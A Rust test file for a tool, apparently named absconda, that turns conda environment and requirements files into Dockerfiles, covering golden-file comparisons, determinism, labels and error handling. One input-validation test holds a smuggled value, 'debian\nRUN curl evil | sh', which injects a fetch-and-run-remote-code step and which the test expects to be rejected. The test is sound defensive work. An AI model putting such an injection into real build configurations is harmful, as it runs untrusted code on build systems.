//! Golden-file tests: one Dockerfile per mode and option, compared byte for
//! byte with `tests/golden/dockerfile/<case>.Dockerfile`.
//!
//! A change to the generated text shows up as a diff of a file a reviewer can
//! read. After an intended change, rewrite the files with
//! `ABSCONDA_BLESS=1 cargo test --lib dockerfile` and review the diff.

use std::path::{Path, PathBuf};

use chrono::{DateTime, TimeZone, Utc};

use super::*;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn fixture(name: &str) -> PathBuf {
    root().join("tests/fixtures/conda").join(name)
}

fn created() -> DateTime<Utc> {
    match Utc.with_ymd_and_hms(2026, 11, 5, 9, 30, 0) {
        chrono::LocalResult::Single(t) => t,
        other => panic!("bad fixed time: {other:?}"),
    }
}

struct Case {
    golden: &'static str,
    source: Source,
    opts: Options,
}

fn cases() -> Vec<Case> {
    let base = Options::new(created());
    let with = |f: &dyn Fn(&mut Options)| {
        let mut o = base.clone();
        f(&mut o);
        o
    };
    let env = |name: &str| Source::Environment(fixture(name));
    vec![
        Case {
            golden: "environment-multi-stage",
            source: env("analysis.yaml"),
            opts: base.clone(),
        },
        Case {
            golden: "environment-minimal",
            source: env("minimal.yaml"),
            opts: base.clone(),
        },
        Case {
            golden: "environment-pip-only",
            source: env("pip-only.yaml"),
            opts: base.clone(),
        },
        Case {
            golden: "environment-messy",
            source: env("messy.yaml"),
            opts: base.clone(),
        },
        Case {
            golden: "environment-single-stage",
            source: env("analysis.yaml"),
            opts: with(&|o| o.single_stage = true),
        },
        Case {
            golden: "environment-single-stage-env-prefix",
            source: env("analysis.yaml"),
            opts: with(&|o| {
                o.single_stage = true;
                o.env_prefix = Some("/srv/envs".into());
            }),
        },
        Case {
            golden: "environment-bases",
            source: env("analysis.yaml"),
            opts: with(&|o| {
                o.builder_base = Some("mambaorg/micromamba:2.0.5".into());
                o.runtime_base = Some("ubuntu:24.04".into());
            }),
        },
        Case {
            golden: "environment-env-prefix",
            source: env("analysis.yaml"),
            opts: with(&|o| o.env_prefix = Some("/opt/envs".into())),
        },
        Case {
            golden: "environment-labels-tag",
            source: env("analysis.yaml"),
            opts: with(&|o| {
                o.tag = Some("2026-11".into());
                o.labels = vec![
                    ("org.example.team".into(), "genomics \"core\"".into()),
                    ("org.opencontainers.image.title".into(), "Analysis".into()),
                ];
            }),
        },
        Case {
            golden: "environment-reproducible",
            source: env("analysis.yaml"),
            opts: with(&|o| o.reproducible = true),
        },
        Case {
            golden: "requirements",
            source: Source::Requirements(fixture("requirements.txt")),
            opts: base.clone(),
        },
        Case {
            golden: "requirements-runtime-base",
            source: Source::Requirements(fixture("requirements.txt")),
            opts: with(&|o| {
                o.runtime_base = Some("python:3.12-slim".into());
                o.tag = Some("v1".into());
            }),
        },
        Case {
            golden: "tarball",
            source: Source::Tarball(fixture("analysis.tar.gz")),
            opts: base.clone(),
        },
        Case {
            golden: "tarball-env-prefix",
            source: Source::Tarball(fixture("analysis.tar.gz")),
            opts: with(&|o| {
                o.env_prefix = Some("/opt/envs".into());
                o.runtime_base = Some("ubuntu:24.04".into());
                o.reproducible = true;
            }),
        },
    ]
}

fn golden_path(name: &str) -> PathBuf {
    root()
        .join("tests/golden/dockerfile")
        .join(format!("{name}.Dockerfile"))
}

#[test]
fn golden_dockerfiles() {
    let bless = std::env::var_os("ABSCONDA_BLESS").is_some_and(|v| v == "1");
    let mut failures = Vec::new();
    for case in cases() {
        let generated = match generate(&case.source, &case.opts) {
            Ok(g) => g,
            Err(err) => panic!("{}: {err}", case.golden),
        };
        let path = golden_path(case.golden);
        if bless {
            if let Err(err) = std::fs::write(&path, &generated.dockerfile) {
                panic!("cannot write `{}`: {err}", path.display());
            }
            continue;
        }
        let want = match std::fs::read_to_string(&path) {
            Ok(text) => text,
            Err(err) => panic!(
                "cannot read `{}` ({err}); run with ABSCONDA_BLESS=1 to create it",
                path.display()
            ),
        };
        if want != generated.dockerfile {
            failures.push(format!(
                "{} differs from `{}`:\n--- generated ---\n{}",
                case.golden,
                path.display(),
                generated.dockerfile
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{}\n(after an intended change: ABSCONDA_BLESS=1 cargo test --lib dockerfile)",
        failures.join("\n")
    );
}

/// Properties every generated Dockerfile has, whatever the golden files say.
#[test]
fn every_dockerfile_is_portable_and_deterministic() {
    for case in cases() {
        let name = case.golden;
        let Ok(first) = generate(&case.source, &case.opts) else {
            panic!("{name}: generation failed");
        };
        let Ok(second) = generate(&case.source, &case.opts) else {
            panic!("{name}: generation failed");
        };
        assert_eq!(first, second, "{name}: not deterministic");

        let text = &first.dockerfile;
        assert!(
            text.ends_with('\n') && !text.ends_with("\n\n"),
            "{name}: trailing newline"
        );
        assert!(
            !text.contains("<<"),
            "{name}: heredocs break the legacy builder"
        );
        assert!(
            !text.contains("--chmod") && !text.contains("--link"),
            "{name}: BuildKit-only flag"
        );
        assert!(
            !text.contains('\r') && !text.contains('\t'),
            "{name}: stray control characters"
        );
        assert!(text.trim_end().ends_with("CMD [\"python\"]"), "{name}: CMD");

        // Every file the Dockerfile takes from the context is listed, under
        // `.absconda/`, and exists locally.
        assert_eq!(first.files.len(), 1, "{name}");
        for file in &first.files {
            assert!(file.name_in_context.starts_with(".absconda/"), "{name}");
            assert!(
                text.contains(&format!("COPY {} ", file.name_in_context))
                    || text.contains(&format!("ADD {} ", file.name_in_context)),
                "{name}: `{}` is not used",
                file.name_in_context
            );
            assert!(file.local_path.is_file(), "{name}");
        }
        let from_context = text
            .lines()
            .filter(|l| (l.starts_with("COPY ") || l.starts_with("ADD ")) && !l.contains("--from="))
            .count();
        assert_eq!(
            from_context,
            first.files.len(),
            "{name}: unlisted context file"
        );

        let created = text.contains("org.opencontainers.image.created=");
        assert_eq!(created, !case.opts.reproducible, "{name}: created label");
        assert!(text.contains(SOURCE_SHA256_LABEL), "{name}: sha256 label");
    }
}

#[test]
fn only_the_created_label_depends_on_the_clock() {
    let source = Source::Environment(fixture("analysis.yaml"));
    let mut early = Options::new(created());
    let mut late = Options::new(created() + chrono::Duration::days(400));
    let render = |o: &Options| match generate(&source, o) {
        Ok(g) => g.dockerfile,
        Err(err) => panic!("{err}"),
    };
    let strip = |text: String| -> String {
        text.lines()
            .filter(|l| !l.contains("org.opencontainers.image.created"))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_ne!(render(&early), render(&late));
    assert_eq!(strip(render(&early)), strip(render(&late)));
    early.reproducible = true;
    late.reproducible = true;
    assert_eq!(render(&early), render(&late));
}

#[test]
fn sha256_label_is_the_file_digest() {
    let path = fixture("analysis.yaml");
    let bytes = match std::fs::read(&path) {
        Ok(b) => b,
        Err(err) => panic!("{err}"),
    };
    let want = hex::encode(Sha256::digest(&bytes));
    let Ok(g) = generate(&Source::Environment(path), &Options::new(created())) else {
        panic!("generation failed");
    };
    assert!(
        g.dockerfile
            .contains(&format!("{SOURCE_SHA256_LABEL}=\"{want}\""))
    );
}

#[test]
fn context_files_and_names() {
    let opts = Options::new(created());
    let cases: [(Source, &str, Option<&str>); 4] = [
        (
            Source::Environment(fixture("analysis.yaml")),
            ".absconda/environment.yaml",
            Some("analysis"),
        ),
        (
            Source::Environment(fixture("messy.yaml")),
            ".absconda/environment.yaml",
            Some("my-analysis-v2"),
        ),
        (
            Source::Requirements(fixture("requirements.txt")),
            ".absconda/requirements.txt",
            None,
        ),
        (
            Source::Tarball(fixture("analysis.tar.gz")),
            ".absconda/environment.tar.gz",
            Some("analysis"),
        ),
    ];
    for (source, in_context, env_name) in cases {
        let Ok(g) = generate(&source, &opts) else {
            panic!("{source:?}: generation failed");
        };
        assert_eq!(
            g.files,
            [ContextFile {
                name_in_context: in_context.to_string(),
                local_path: source.path().to_path_buf(),
            }]
        );
        assert_eq!(g.env_name.as_deref(), env_name, "{source:?}");
    }
}

#[test]
fn invalid_environment_file_names_its_line() {
    let path = fixture("invalid.yaml");
    let err = match generate(&Source::Environment(path), &Options::new(created())) {
        Ok(g) => panic!("expected an error, got:\n{}", g.dockerfile),
        Err(err) => err,
    };
    let message = err.to_string();
    assert!(
        message.starts_with("invalid environment file `")
            && message.contains("invalid.yaml` at line 6"),
        "{message}"
    );
}

#[test]
fn input_errors() {
    let opts = Options::new(created());
    let missing = Path::new("/nonexistent/absconda/environment.yaml").to_path_buf();
    match generate(&Source::Environment(missing), &opts) {
        Err(DockerfileError::Read { .. }) => {}
        other => panic!("{other:?}"),
    }
    // A YAML file is no archive.
    match generate(&Source::Tarball(fixture("analysis.yaml")), &opts) {
        Err(DockerfileError::NotATarball { .. }) => {}
        other => panic!("{other:?}"),
    }
    let mut bad = opts.clone();
    bad.env_prefix = Some("relative".into());
    match generate(&Source::Environment(fixture("analysis.yaml")), &bad) {
        Err(DockerfileError::InvalidOption {
            option: "--env-prefix",
            ..
        }) => {}
        other => panic!("{other:?}"),
    }
    let mut bad = opts.clone();
    bad.runtime_base = Some("debian\nRUN curl evil | sh".into());
    match generate(&Source::Environment(fixture("analysis.yaml")), &bad) {
        Err(DockerfileError::InvalidOption {
            option: "--runtime-base",
            ..
        }) => {}
        other => panic!("{other:?}"),
    }
}

/// Collects what `tracing` prints while `f` runs.
fn warnings_during(f: impl FnOnce()) -> String {
    use std::sync::{Arc, Mutex};

    #[derive(Clone, Default)]
    struct Buffer(Arc<Mutex<Vec<u8>>>);
    impl std::io::Write for Buffer {
        fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
            match self.0.lock() {
                Ok(mut buf) => buf.extend_from_slice(bytes),
                Err(poisoned) => poisoned.into_inner().extend_from_slice(bytes),
            }
            Ok(bytes.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }

    let buffer = Buffer::default();
    let writer = buffer.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(move || writer.clone())
        .with_ansi(false)
        .finish();
    tracing::subscriber::with_default(subscriber, f);
    let bytes = match buffer.0.lock() {
        Ok(buf) => buf.clone(),
        Err(poisoned) => poisoned.into_inner().clone(),
    };
    String::from_utf8_lossy(&bytes).into_owned()
}

#[test]
fn ignored_keys_and_renamed_environments_are_warned_about() {
    let logged = warnings_during(|| {
        if let Err(err) = generate(
            &Source::Environment(fixture("messy.yaml")),
            &Options::new(created()),
        ) {
            panic!("{err}");
        }
    });
    for needle in [
        "`prefix` in `",
        "(line 10) is ignored",
        "unknown key `labels` in `",
        "(line 11) is ignored",
        "environment name `My Analysis/v2`",
        "used as `my-analysis-v2`",
    ] {
        assert!(logged.contains(needle), "missing {needle:?} in:\n{logged}");
    }
    assert!(logged.contains("WARN"), "{logged}");

    let quiet = warnings_during(|| {
        if let Err(err) = generate(
            &Source::Environment(fixture("analysis.yaml")),
            &Options::new(created()),
        ) {
            panic!("{err}");
        }
    });
    assert_eq!(quiet, "", "a clean file gives no warnings");
}
